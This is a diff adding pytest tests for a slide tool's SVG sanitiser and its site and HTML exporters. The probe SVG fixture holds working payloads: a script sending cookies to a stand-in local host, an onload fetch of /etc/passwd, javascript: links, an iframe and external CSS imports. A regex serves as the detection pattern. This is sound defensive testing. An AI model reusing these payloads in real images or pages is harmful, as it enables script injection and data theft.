@@ -1,0 +1,104 @@
+"""SVGs are published only as their drawing: no script, handlers, foreign HTML or external
+references, in every export that copies or inlines images (issue 17: a probe.svg with <script>
+was copied verbatim into site exports)."""
+
+from __future__ import annotations
+
+import base64
+import re
+from pathlib import Path
+
+import pytest
+
+from slidewright import load_article, save_article
+from slidewright.exporters import export
+from slidewright.fileformat.svgclean import SvgRefused, sanitize_svg
+
+PROBE = """<?xml version="1.0"?>
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<?xml-stylesheet href="http://127.0.0.1:9/x.css"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     width="40" height="30" onload="fetch('file:///etc/passwd')">
+<script>fetch('http://127.0.0.1:9/collect?k=' + document.cookie)</script>
+<style>@import url(http://127.0.0.1:9/a.css);</style>
+<defs><linearGradient id="sky"><stop offset="0" stop-color="#9cf"/></linearGradient></defs>
+<a xlink:href="javascript:alert(1)"><rect width="40" height="30" fill="url(#sky)" onclick="x()"/></a>
+<a href=" java&#9;script:alert(2)"><circle cx="5" cy="5" r="4"/></a>
+<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="file:///etc/passwd"/></body></foreignObject>
+<image width="1" height="1" href="http://127.0.0.1:9/pixel.png"/>
+<use href="http://127.0.0.1:9/sprite.svg#a"/><use xlink:href="#sky"/>
+<set attributeName="href" to="javascript:alert(3)"/>
+<rect width="1" height="1" style="fill: url(http://127.0.0.1:9/)"/>
+<style>rect { fill: u\\72l(http://127.0.0.1:9/escaped) }</style>
+<style>g { background: image-set("http://127.0.0.1:9/set.png" 1x) }</style>
+<text x="2" y="20">Harbour &amp; sea</text>
+</svg>
+"""
+HOSTILE = re.compile(
+    r"script|onload|onclick|foreignObject|iframe|127\.0\.0\.1|@import|<set|file:", re.I
+)
+
+
+def _assert_only_the_drawing(svg: str) -> None:
+    assert not HOSTILE.findall(svg), HOSTILE.findall(svg)
+    assert 'fill="url(#sky)"' in svg and "Harbour &amp; sea" in svg and 'href="#sky"' in svg
+
+
+@pytest.fixture
+def svg_bundle(sample_bundle: Path) -> Path:
+    (sample_bundle / "images" / "probe.svg").write_text(PROBE, encoding="utf-8")
+    article = load_article(sample_bundle)
+    article.slides[0].image = "images/probe.svg"
+    save_article(article, sample_bundle)
+    return sample_bundle
+
+
+def test_sanitiser_keeps_the_drawing_and_nothing_that_runs() -> None:
+    _assert_only_the_drawing(sanitize_svg(PROBE.encode(), "probe.svg").decode())
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b'<!DOCTYPE s [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
+        b"<html><script>x()</script></html>",
+        b"<svg><script>x()</script></svg>",  # no SVG namespace: browsers would not draw it
+        b"\x89PNG not svg at all",
+    ],
+)
+def test_what_is_not_a_plain_svg_is_refused(data: bytes) -> None:
+    with pytest.raises(SvgRefused, match="probe.svg"):
+        sanitize_svg(data, "probe.svg")
+
+
+@pytest.mark.parametrize(
+    ("to", "published"),
+    [
+        ("html-folder", "assets/probe.svg"),
+        ("hugo", "content/harbour-towns/images/probe.svg"),
+        ("jekyll", "harbour-towns/images/probe.svg"),
+    ],
+)
+def test_folder_and_site_exports_publish_the_svg_without_script(
+    svg_bundle: Path, tmp_path: Path, to: str, published: str
+) -> None:
+    out = tmp_path / "out"
+    export(svg_bundle, to, out)
+    _assert_only_the_drawing((out / published).read_text(encoding="utf-8"))
+    assert (svg_bundle / "images" / "probe.svg").read_text(encoding="utf-8") == PROBE  # untouched
+
+
+def test_single_file_export_inlines_the_sanitised_svg(svg_bundle: Path, tmp_path: Path) -> None:
+    out = tmp_path / "page.html"
+    export(svg_bundle, "html", out)
+    uri = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', out.read_text(encoding="utf-8"))
+    assert uri is not None
+    _assert_only_the_drawing(base64.b64decode(uri.group(1)).decode())
+
+
+def test_an_unreadable_svg_is_left_out_with_a_note(svg_bundle: Path, tmp_path: Path) -> None:
+    (svg_bundle / "images" / "probe.svg").write_text("<svg><script>x()", encoding="utf-8")
+    out = tmp_path / "folder"
+    export(svg_bundle, "html-folder", out)
+    assert not (out / "assets" / "probe.svg").exists()
+    assert "Image not published: images/probe.svg" in (out / "index.html").read_text("utf-8")
